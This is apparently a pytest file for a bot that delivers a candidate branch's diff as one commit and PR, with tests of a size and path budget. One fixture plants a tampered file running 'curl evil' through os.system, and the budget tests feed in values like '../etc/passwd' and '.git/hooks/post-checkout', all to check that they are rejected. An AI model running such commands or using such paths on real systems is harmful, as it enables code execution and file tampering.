"""A candidate's minimal diff joins the single commit (issue 14), through the real `deliver` and the
GitHub stand-in: the control plane fetches the pinned SHA itself with git (a real local repository
made here), takes only the files it changed against its merge-base with its default branch, checks
them against the budget, and the PR body lists them with the SHA. A runner's copy of such a path
never wins."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from bot.delivery import deliver
from runners import candidate as cand_mod
from runners.candidate import DiffEntry, budget_problems
from tests.artifacts import builders as b
from tests.artifacts.test_delivery_base_branch import MODEL, checkout_files, results_for, runner_files
from tests.core.test_candidate import PLUGIN, _git, make_plugin_repo
from tests.plugins.standin import INSTALLATION, REPO
from tests.standin.git_api import pulls_of, seed_commit, tree_files

CODE = ["adaptplug/__init__.py", "pyproject.toml"]


def _deliver(app_settings: Any, cand: Any, results: dict[str, Any], files: dict[str, str]) -> Any:
    from bot.github import GitHubClient
    from bot.jobs.model import Job
    from bot.repo_config import RepoConfig

    options = b.options(MODEL, issue=9).model_copy(update={"candidate": cand})
    job = Job(repo=REPO, installation_id=INSTALLATION, issue=9, options=options)
    github = GitHubClient(app_settings).installation(INSTALLATION)
    return deliver(
        job=job, results=results, files=files, github=github, config=RepoConfig(), settings=app_settings
    )


def test_the_candidates_diff_is_in_the_one_commit_and_the_pr_body(
    github_standin: Any, app_settings: Any, mkdocs_repo: Path, tmp_path: Path
) -> None:
    repo, sha, _ = make_plugin_repo(tmp_path / "contrib")
    cand = cand_mod.resolve_local(str(repo), "feat/adaptplug")
    results = results_for()
    files = runner_files(mkdocs_repo, tmp_path, results)
    files["adaptplug/__init__.py"] = "import os; os.system('curl evil')\n"  # a runner's copy: ignored
    base = seed_commit(github_standin, REPO, checkout_files(mkdocs_repo))

    outcome = _deliver(app_settings, cand, results, files)
    committed = tree_files(github_standin, outcome.sha)
    assert committed["adaptplug/__init__.py"] == PLUGIN  # the control plane's own fetch at the SHA
    assert committed["pyproject.toml"].startswith("[build-system]")
    assert "README.md" not in committed or committed["README.md"] != "contributor fork\n"  # not in the diff
    assert set(CODE) <= set(outcome.files) and "tests/e2e/models/configs/Foo-7B.yaml" in outcome.files
    from tests.standin.git_api import git_world

    assert git_world(github_standin)["objects"][outcome.sha]["parents"] == [base]  # ONE commit
    (pr,) = pulls_of(github_standin, REPO)
    assert f"at commit `{sha}`" in pr["body"]
    for path in CODE:
        assert f"- `{path}`: code change for this model" in pr["body"]


def test_a_candidate_over_the_budget_fails_delivery_and_commits_nothing(
    github_standin: Any, app_settings: Any, mkdocs_repo: Path, tmp_path: Path
) -> None:
    repo, _, _ = make_plugin_repo(tmp_path / "contrib")
    _git(repo, "checkout", "-q", "feat/adaptplug")
    (repo / "weights.bin").write_bytes(bytes(range(256)) * 4)
    _git(repo, "add", "weights.bin")
    _git(repo, "commit", "-q", "-m", "a binary file")
    _git(repo, "checkout", "-q", "main")
    cand = cand_mod.resolve_local(str(repo), "feat/adaptplug")
    results = results_for()
    files = runner_files(mkdocs_repo, tmp_path, results)
    seed_commit(github_standin, REPO, checkout_files(mkdocs_repo))
    with pytest.raises(
        cand_mod.CandidateFailed, match=r"does not fit the delivery budget: `weights.bin` is a binary"
    ):
        _deliver(app_settings, cand, results, files)
    assert pulls_of(github_standin, REPO) == []
    assert github_standin.requests_to("POST", "/repos/octo-org/vllm-ascend/git/commits") == []


@pytest.mark.parametrize(
    ("entries", "problem"),
    [
        ([], "changes no file"),
        ([DiffEntry(f"f{i}.py", "A", False, 1) for i in range(21)], "changes 21 files (at most 20)"),
        ([DiffEntry("big.py", "A", False, 200 * 1024 + 1)], "hold 204801 bytes (at most 204800)"),
        ([DiffEntry("../etc/passwd", "A", False, 1)], "is not a plain path inside the repository"),
        ([DiffEntry("/abs.py", "A", False, 1)], "is not a plain path"),
        ([DiffEntry(".git/hooks/post-checkout", "A", False, 1)], "is not a plain path"),
        ([DiffEntry("a/./b.py", "A", False, 1)], "is not a plain path"),
        ([DiffEntry("x.so", "A", True, 10)], "`x.so` is a binary file"),
        ([DiffEntry("old.py", "D", False, 0)], "deletes `old.py`"),
        ([DiffEntry("run.sh", "T", False, 3)], "changes type or mode (T)"),
    ],
)
def test_budget(entries: list[DiffEntry], problem: str) -> None:
    problems = budget_problems(entries)
    assert any(problem in p for p in problems), problems


def test_a_diff_within_budget_has_no_problems() -> None:
    entries = [DiffEntry(f"vllm_ascend/models/m{i}.py", "M", False, 10_000) for i in range(20)]
    assert budget_problems(entries) == []


def test_diff_is_against_the_merge_base_not_the_default_branch_tip(tmp_path: Path) -> None:
    repo, sha, base = make_plugin_repo(tmp_path)
    cand = cand_mod.resolve_local(str(repo), "feat/adaptplug")
    diff = cand_mod.candidate_diff(cand, tmp_path / "work")
    assert (diff.base_branch, diff.merge_base) == ("main", base)
    assert sorted(diff.files) == CODE  # main's later README edit is not the candidate's
    assert diff.files["adaptplug/__init__.py"].decode() == PLUGIN
    assert (
        subprocess.run(
            ["git", "-C", str(tmp_path / "work"), "rev-parse", "HEAD"], capture_output=True, text=True
        ).stdout.strip()
        == sha
    )


def test_the_zh_report_names_the_candidate_it_ran_against(tmp_path: Path) -> None:
    from runners.artifacts.builders import Delivery, render_report
    from runners.contracts import Candidate

    cand = Candidate(
        repo="contrib/plugin", ref="feat/adaptplug", sha="ab" * 20, url="https://example.invalid/x.git"
    )
    options = b.options(MODEL, issue=9).model_copy(update={"candidate": cand})
    report = render_report(options, results_for(), Delivery(), code_changes=CODE)
    row = next(line for line in report.splitlines() if line.startswith("| 候选分支 |"))
    assert "`contrib/plugin@feat/adaptplug`" in row and f"`{'ab' * 20}`" in row
    assert "代码文件 2 个" in row
    plain = render_report(b.options(MODEL, issue=9), results_for(), Delivery())
    assert "候选分支" not in plain
